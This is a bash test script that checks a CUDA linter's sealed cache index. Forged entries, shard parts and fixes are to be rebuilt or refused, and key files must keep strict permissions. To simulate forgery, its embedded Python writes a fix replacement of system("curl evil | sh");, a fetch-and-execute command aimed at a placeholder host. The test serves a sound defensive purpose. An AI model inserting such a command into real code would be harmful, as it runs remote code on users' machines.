#!/usr/bin/env bash
# What the index trusts (issue 23, 3; docs/index.md): entries and shard parts
# are sealed with a key kept outside the cache (the user's state directory,
# mode 0600, or STREAMLINT_INDEX_KEY), so an entry edited to add, change or
# delete a finding or a fix is rebuilt, never reported or applied; a shard
# part not sealed with the merge's key gives no fix (and with
# STREAMLINT_INDEX_KEY set is refused); --cache-dir never turns an existing
# directory that is not an index into one.
. "$(dirname "$0")/lib.sh"
command -v python3 >/dev/null || { echo "skipped: needs python3"; exit 77; }
STUB="$SRC/testdata/stub"
FLAGS="-x cuda -std=c++17 --cuda-host-only -nocudainc -nocudalib -isystem $STUB"
export XDG_STATE_HOME=$WORK/state
unset STREAMLINT_INDEX_KEY
P=$WORK/project
mkdir -p "$P"
cp "$SRC/testdata/checks/alloc-in-loop.cu" "$SRC/testdata/checks/device-sync.cu" "$P/"
stub_database "$P"
cd "$P" || exit 1
mode() { stat -c %a "$1"; }

"$STREAMLINT" -p . --no-cache --format json -o "$WORK/reference.json" 2>/dev/null
"$STREAMLINT" -p . --no-cache --fix-dry-run >"$WORK/reference.diff" 2>/dev/null
expect_exit 1 "cold run" -- "$STREAMLINT" -p . --format json -o "$WORK/cold.json"
[ "$(mode "$WORK/state/streamlint/index.key")" = 600 ] || fail "key file mode $(mode "$WORK/state/streamlint/index.key")"
[ "$(mode "$WORK/state/streamlint")" = 700 ] || fail "key directory mode $(mode "$WORK/state/streamlint")"
find "$P/.streamlint" -name 'index.key' | grep -q . && fail "the key is inside the cache"
cmp -s "$WORK/reference.json" "$WORK/cold.json" || fail "cold report differs"

# Edit every entry: a finding's message, a fix's text (at line 0, no digest:
# what a forger writes), one finding deleted.
entries=$(find "$P/.streamlint/entries" -name '*.json')
[ -n "$entries" ] || fail "no entries written"
for entry in $entries; do
  head -c 22 "$entry" | grep -q '^streamlint-hmac-sha256' || fail "$entry is not sealed"
  python3 - "$entry" <<'PY'
import json, sys
path = sys.argv[1]
seal, body = open(path, encoding="utf-8").read().split("\n", 1)
entry = json.loads(body)
for f in entry["findings"]:
    f["message"] = "FORGED " + f["message"]
    for fix in f.get("fixes", []):
        for e in fix["edits"]:
            e["replacement"] = "system(\"curl evil | sh\");"
            e["fileDigest"] = ""
            e["begin"] = [e["begin"][0], 0, 0]
if entry["findings"]:
    entry["findings"].pop()
open(path, "w", encoding="utf-8").write(seal + "\n" + json.dumps(entry))
PY
  [ $? = 0 ] || fail "could not forge $entry"
done
expect_exit 1 "run on edited entries" -- "$STREAMLINT" -p . --format json -o "$WORK/edited.json"
cmp -s "$WORK/reference.json" "$WORK/edited.json" || fail "an edited entry reached the report"
expect_stderr "index entries in $P/.streamlint not sealed with $WORK/state/streamlint/index.key ignored and rebuilt"
grep -q FORGED "$WORK/edited.json" && fail "a forged message was reported"
# The rebuilt entries are trusted again; the forged ones never reach --fix.
for entry in $entries; do sed -i 's/"message":"/"message":"FORGED /' "$entry"; done
expect_exit 1 "--fix-dry-run on edited entries" -- "$STREAMLINT" -p . --fix-dry-run
cmp -s "$WORK/reference.diff" "$WORK/out" || fail "fixes differ after entries were edited"
expect_exit 1 "warm run" -- "$STREAMLINT" -p . --format json -o "$WORK/warm.json"
expect_stderr "2 TU result(s) from the index"
cmp -s "$WORK/reference.json" "$WORK/warm.json" || fail "warm report differs"

# Another key (another user or machine): entries rebuilt, never trusted.
STREAMLINT_INDEX_KEY=another-secret-of-enough-length expect_exit 1 "another key" -- \
  "$STREAMLINT" -p . --format json -o "$WORK/other.json"
expect_stderr "not sealed with STREAMLINT_INDEX_KEY ignored and rebuilt"
STREAMLINT_INDEX_KEY=short expect_exit 1 "a short key" -- "$STREAMLINT" -p . --format json -o "$WORK/short.json"
expect_stderr "STREAMLINT_INDEX_KEY is shorter than 16 characters"
cmp -s "$WORK/reference.json" "$WORK/short.json" || fail "report without a usable key differs"
# A key file others may read is not used (mode bits, not whether root can).
chmod 644 "$WORK/state/streamlint/index.key"
expect_exit 1 "key readable by others" -- "$STREAMLINT" -p . --format json -o "$WORK/open.json"
expect_stderr "index.key is readable or writable by other users (mode 0644): not used"
chmod 600 "$WORK/state/streamlint/index.key"

# Shard parts: sealed; an edited part gives its findings but no fix, and is
# refused when the jobs share STREAMLINT_INDEX_KEY.
for i in 1 2; do "$STREAMLINT" -p . --shard="$i/2" -o "$WORK/part-$i.json" 2>/dev/null; done
expect_exit 1 "merge of sealed parts" -- "$STREAMLINT" -p . --merge-shards "$WORK"/part-*.json --fix-dry-run
cmp -s "$WORK/reference.diff" "$WORK/out" || fail "fixes from sealed parts differ"
sed -i '2s/"message":"/"message":"EDITED /; 2s/"replacement":"/"replacement":"INJECTED /' \
  "$WORK/part-1.json" "$WORK/part-2.json"
expect_exit 1 "merge of edited parts" -- "$STREAMLINT" -p . --merge-shards "$WORK"/part-*.json --fix-dry-run
grep -q INJECTED "$WORK/out" && fail "a fix from an edited part was offered"
[ -s "$WORK/out" ] && fail "an edited part's fixes were offered: $(head -3 "$WORK/out")"
expect_stderr "of 2 shard part(s) are not sealed with this machine's index key"
export STREAMLINT_INDEX_KEY=the-secret-the-ci-jobs-share
for i in 1 2; do "$STREAMLINT" -p . --shard="$i/2" -o "$WORK/part-$i.json" 2>/dev/null; done
expect_exit 1 "merge with a shared key" -- "$STREAMLINT" -p . --merge-shards "$WORK"/part-*.json --fix-dry-run
cmp -s "$WORK/reference.diff" "$WORK/out" || fail "fixes from parts sealed with the shared key differ"
sed -i '2s/"complete":true/"complete": true/' "$WORK/part-2.json" # any byte
expect_exit 2 "merge of an edited part with a shared key" -- \
  "$STREAMLINT" -p . --merge-shards "$WORK"/part-*.json
expect_stderr "part-2.json: not sealed with STREAMLINT_INDEX_KEY"
unset STREAMLINT_INDEX_KEY

# --cache-dir naming an existing directory that is not an index: not used,
# nothing written into it (a checkout would then hide new files from git).
mkdir -p "$WORK/checkout" && echo "int main() {}" >"$WORK/checkout/main.cpp"
expect_exit 1 "--cache-dir on a foreign directory" -- \
  "$STREAMLINT" -p . --cache-dir "$WORK/checkout" --format json -o "$WORK/foreign.json"
expect_stderr "$WORK/checkout is an existing directory that is not a streamlint index"
[ "$(ls -A "$WORK/checkout")" = main.cpp ] || fail "streamlint wrote into $WORK/checkout: $(ls -A "$WORK/checkout")"
cmp -s "$WORK/reference.json" "$WORK/foreign.json" || fail "report with a foreign cache directory differs"
mkdir -p "$WORK/empty"
expect_exit 1 "--cache-dir on an empty directory" -- "$STREAMLINT" -p . --cache-dir "$WORK/empty" --format json
[ -f "$WORK/empty/CACHEDIR.TAG" ] || fail "an empty directory was not made an index"
finish
